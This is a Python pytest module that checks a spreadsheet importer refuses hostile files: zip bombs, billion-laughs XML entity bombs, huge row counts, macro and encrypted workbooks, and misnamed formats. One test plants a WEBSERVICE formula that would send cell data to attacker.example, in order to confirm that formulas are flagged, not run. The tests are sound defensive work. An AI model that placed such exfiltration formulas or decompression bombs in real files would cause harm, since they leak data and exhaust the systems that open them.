"""Hostile and wrong files: each ends quickly in a clear ExchangeError with nothing written."""

from __future__ import annotations

import sys
import time
import zipfile
from pathlib import Path
from typing import Any, Callable

import openpyxl
import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))  # shared helpers live in tests/
from exchange_support import (  # noqa: E402
    BILLION_LAUGHS,
    fill,
    million_row_sheet,
    replace_member,
    sheet_member,
)
from trustframe.errors import ExchangeError  # noqa: E402
from trustframe.exchange.excel_import import Limits, read_workbook  # noqa: E402

#: Every hostile file must be refused within this time (generous for slow CI machines).
# A hang guard, not a speed target (refusals take ~10 ms; see bench/bench_exchange.py):
# generous so a loaded CI machine never makes it flaky.
QUICK = 10.0


@pytest.fixture
def returned(services: Any, sample_assessment: Any, tmp_path: Path) -> Path:
    path = tmp_path / "sent.xlsx"
    services.exchange.export_questionnaire(sample_assessment.id, path)
    return fill(path, {"VUL-01": "Yes"})


def state(services: Any, assessment_id: int) -> tuple[Any, ...]:
    return (services.assessments.answers(assessment_id), services.assessments.get(assessment_id).status,
            services.exchange.imports(assessment_id), len(services.history(assessment_id)))


def assert_refused(services: Any, assessment_id: int, path: Path, match: str) -> ExchangeError:
    before = state(services, assessment_id)
    start = time.perf_counter()
    with pytest.raises(ExchangeError, match=match) as info:
        services.exchange.preview_import(path)
    elapsed = time.perf_counter() - start
    assert elapsed < QUICK, f"took {elapsed:.2f} s"
    assert state(services, assessment_id) == before
    return info.value


def test_openpyxl_uses_defusedxml() -> None:
    assert openpyxl.DEFUSEDXML is True


def test_zip_bomb_member(services: Any, sample_assessment: Any, returned: Path, tmp_path: Path) -> None:
    bomb = replace_member(returned, tmp_path / "bomb.xlsx", "xl/media/bomb.bin", b"\0" * (30 * 1024 * 1024))
    assert_refused(services, sample_assessment.id, bomb, "zip bomb|would unpack")


def test_huge_declared_total(services: Any, sample_assessment: Any, returned: Path, tmp_path: Path) -> None:
    path = tmp_path / "big.xlsx"
    with zipfile.ZipFile(returned) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info.filename))
        for i in range(8):  # 8 x 9 MB of random-ish text: low ratio, large total
            dst.writestr(f"xl/media/pad{i}.txt", (bytes(range(256)) * 36864)[: 9 * 1024 * 1024],
                         compress_type=zipfile.ZIP_STORED)
    # stored members keep the file under the size limit only with a lower limit; use a small one
    with pytest.raises(ExchangeError, match="unpack to"):
        read_workbook(path, Limits(max_file_bytes=200 * 1024 * 1024))


def test_billion_laughs(services: Any, sample_assessment: Any, returned: Path, tmp_path: Path) -> None:
    bad = replace_member(returned, tmp_path / "lol.xlsx", sheet_member(returned), BILLION_LAUGHS)
    assert_refused(services, sample_assessment.id, bad, "XML bomb|entit")


def test_billion_laughs_hidden_behind_a_long_comment_is_stopped_by_defusedxml(
        services: Any, sample_assessment: Any, returned: Path, tmp_path: Path) -> None:
    payload = BILLION_LAUGHS.replace(b'<?xml version="1.0"?>',
                                     b'<?xml version="1.0"?><!--' + b"x" * 10_000 + b"-->")
    bad = replace_member(returned, tmp_path / "lol2.xlsx", sheet_member(returned), payload)
    assert_refused(services, sample_assessment.id, bad, "entit")


def test_billion_laughs_in_shared_strings(services: Any, sample_assessment: Any, returned: Path,
                                          tmp_path: Path) -> None:
    payload = BILLION_LAUGHS.replace(b"<worksheet", b"<sst").split(b"<sst")[0] + (
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol9;</t></si></sst>')
    bad = replace_member(returned, tmp_path / "lol3.xlsx", "xl/sharedStrings.xml", payload)
    assert_refused(services, sample_assessment.id, bad, "XML bomb|entit")


def test_a_million_rows(services: Any, sample_assessment: Any, returned: Path, tmp_path: Path) -> None:
    bad = replace_member(returned, tmp_path / "rows.xlsx", sheet_member(returned), million_row_sheet(1_000_000))
    assert_refused(services, sample_assessment.id, bad, "rows|unpack to")


def test_many_rows_within_the_size_limit_stop_at_the_row_limit(services: Any, sample_assessment: Any,
                                                               returned: Path, tmp_path: Path) -> None:
    bad = replace_member(returned, tmp_path / "rows2.xlsx", sheet_member(returned), million_row_sheet(100_000))
    assert_refused(services, sample_assessment.id, bad, "more than 5000 rows")


def test_one_row_numbered_a_million(services: Any, sample_assessment: Any, returned: Path, tmp_path: Path) -> None:
    sheet = million_row_sheet(1).replace(b'</sheetData>',
                                         b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>X</t></is></c>'
                                         b'</row></sheetData>')
    bad = replace_member(returned, tmp_path / "gap.xlsx", sheet_member(returned), sheet)
    assert_refused(services, sample_assessment.id, bad, "more than 5000 rows")


def test_a_very_long_cell(services: Any, sample_assessment: Any, returned: Path, tmp_path: Path) -> None:
    wb = openpyxl.load_workbook(returned)
    wb["Questions"]["F3"] = "y" * 32_000
    wb.save(tmp_path / "long.xlsx")
    preview = services.exchange.preview_import(tmp_path / "long.xlsx")
    assert any(i.where == "Questions!F3" and "limit is 10000" in i.message for i in preview.issues)


def test_formulas_are_reported_not_evaluated(services: Any, sample_assessment: Any, returned: Path,
                                             tmp_path: Path) -> None:
    wb = openpyxl.load_workbook(returned)
    ws = wb["Questions"]
    ws["F3"] = '=WEBSERVICE("http://attacker.example/?"&A1)'
    ws["A4"] = '="GOV-"&"02"'
    wb.save(tmp_path / "formula.xlsx")
    preview = services.exchange.preview_import(tmp_path / "formula.xlsx")
    where = {i.where for i in preview.issues if "Formula" in i.message}
    assert {"Questions!F3", "Questions!A4"} <= where


def _plain_workbook(path: Path) -> Path:
    wb = openpyxl.Workbook()
    wb.active.append(["Name", "Amount"])
    wb.active.append(["Widget", 3])
    wb.save(path)
    return path


BAD_FILES: dict[str, tuple[Callable[[Path, Path], Path], str]] = {
    "wrong workbook": (lambda r, d: _plain_workbook(d / "budget.xlsx"), "not a TrustFrame questionnaire"),
    "truncated zip": (lambda r, d: _write(d / "cut.xlsx", r.read_bytes()[: r.stat().st_size // 2]), "damaged"),
    "empty": (lambda r, d: _write(d / "empty.xlsx", b""), "empty"),
    "random bytes": (lambda r, d: _write(d / "noise.xlsx", bytes(range(256)) * 40), "not a zip"),
    "xls": (lambda r, d: _write(d / "old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600), r"\.xls"),
    "xlsm": (lambda r, d: _write(d / "macro.xlsm", r.read_bytes()), "macro"),
    "csv": (lambda r, d: _write(d / "answers.csv", b"Question ID,Answer\nGOV-01,Yes\n"), "CSV"),
    "ods": (lambda r, d: _write(d / "calc.ods", b"PK\x03\x04"), "OpenDocument"),
    "ods renamed": (lambda r, d: _ods(d / "calc.xlsx"), "OpenDocument"),
    "encrypted": (lambda r, d: _write(d / "locked.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500
                                      + "EncryptionInfo".encode("utf-16-le") + b"\0" * 500), "password"),
    "ole2 renamed": (lambda r, d: _write(d / "renamed.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
                     "old binary"),
    "macros inside": (lambda r, d: replace_member(r, d / "vba.xlsx", "xl/vbaProject.bin", b"\0" * 100), "macros"),
    "not a workbook zip": (lambda r, d: _zip(d / "other.xlsx", {"readme.txt": b"hello"}), "not an Excel workbook"),
    "text file": (lambda r, d: _write(d / "notes.txt", b"hello"), "only .xlsx"),
    "html": (lambda r, d: _write(d / "page.xlsx", b"<html><body>hi</body></html>"), "XML or HTML"),
}


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def _zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)
    return path


def _ods(path: Path) -> Path:
    return _zip(path, {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"})


@pytest.mark.parametrize("kind", sorted(BAD_FILES))
def test_wrong_files_get_a_clear_message(kind: str, services: Any, sample_assessment: Any, returned: Path,
                                         tmp_path: Path) -> None:
    make, match = BAD_FILES[kind]
    error = assert_refused(services, sample_assessment.id, make(returned, tmp_path), match)
    assert "Traceback" not in str(error)


def test_damaged_member_inside_a_valid_directory(services: Any, sample_assessment: Any, returned: Path,
                                                 tmp_path: Path) -> None:
    data = bytearray(returned.read_bytes())
    with zipfile.ZipFile(returned) as z:
        info = z.getinfo(sheet_member(returned))
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    for i in range(start + 10, start + 200):
        data[i] ^= 0x55  # corrupt the compressed sheet data, keep the central directory intact
    bad = _write(tmp_path / "crc.xlsx", bytes(data))
    assert_refused(services, sample_assessment.id, bad, "damaged|cannot be read")
